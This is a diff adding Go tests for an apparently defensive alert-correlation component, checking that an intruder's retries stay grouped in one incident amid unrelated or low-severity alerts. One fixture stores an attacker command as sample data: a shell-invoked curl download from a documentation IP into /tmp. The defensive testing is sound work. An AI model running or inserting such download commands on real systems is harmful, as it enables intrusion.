@@ -1,0 +1,74 @@
+package incident
+
+import (
+	"fmt"
+	"testing"
+
+	"baize/internal/alert"
+)
+
+func written(path string) alert.Entity {
+	return alert.Entity{Type: alert.EntityFile, Value: "h1:" + path, Role: RoleWritten}
+}
+
+// TestACrowdDoesNotHideARetry: many others use the directory, and the command,
+// between two rounds of one intruder.
+func TestACrowdDoesNotHideARetry(t *testing.T) {
+	round := func(i int) *alert.Alert {
+		a := high(fmt.Sprintf("round-%d", i), fmt.Sprintf("W%d", i), written(fmt.Sprintf("/tmp/x%d", i)))
+		a.Service = "S"
+		return a
+	}
+	m := newMerger()
+	first := add(m, round(1))
+	for i := range 3 * postings {
+		other := high(fmt.Sprintf("other-%d", i), fmt.Sprintf("O%d", i), written(fmt.Sprintf("/tmp/y%d", i)))
+		other.Service = fmt.Sprintf("S%d", i)
+		if add(m, other) == first {
+			t.Fatal("a stranger joined")
+		}
+	}
+	if got := add(m, round(2)); got != first {
+		t.Fatalf("the retry is in %s, want %s", got, first)
+	}
+}
+
+// TestFaintAlertsDoNotHideARetry: alerts that could not join take no room from
+// those that can.
+func TestFaintAlertsDoNotHideARetry(t *testing.T) {
+	clues := []alert.Entity{
+		{Type: alert.EntityIP, Value: "203.0.113.5", Role: RoleSource},
+		{Type: alert.EntityCommand, Value: "sh -c curl http://203.0.113.9/t -o /tmp/x"},
+	}
+	m := newMerger()
+	first := add(m, high("one", "A", clues...))
+	for i := range 3 * postings {
+		faint := high(fmt.Sprintf("faint-%d", i), fmt.Sprintf("F%d", i), clues...)
+		faint.Rule.Level = "low"
+		add(m, faint)
+	}
+	if got := add(m, high("two", "B", clues...)); got != first {
+		t.Fatalf("the retry is in %q, want %s", got, first)
+	}
+}
+
+// TestAFullIncidentReachesForNobody: an alert that belongs to it by lineage
+// does not pull in another incident by weak reasons.
+func TestAFullIncidentReachesForNobody(t *testing.T) {
+	m := newMerger()
+	full := add(m, high("seed", "A"))
+	for i := range capAlerts {
+		add(m, high(fmt.Sprintf("fill-%d", i), "A"))
+	}
+	victim := high("victim", "B", written("/tmp/x"))
+	victim.Service = "S"
+	apart := add(m, victim)
+	bridge := high("bridge", "A", written("/tmp/y"))
+	bridge.Service = "S"
+	if got := add(m, bridge); got != full {
+		t.Fatalf("the lineage's alert is in %s", got)
+	}
+	if got := m.IncidentOf("victim"); got != apart {
+		t.Fatalf("the other incident became part of %s", got)
+	}
+}
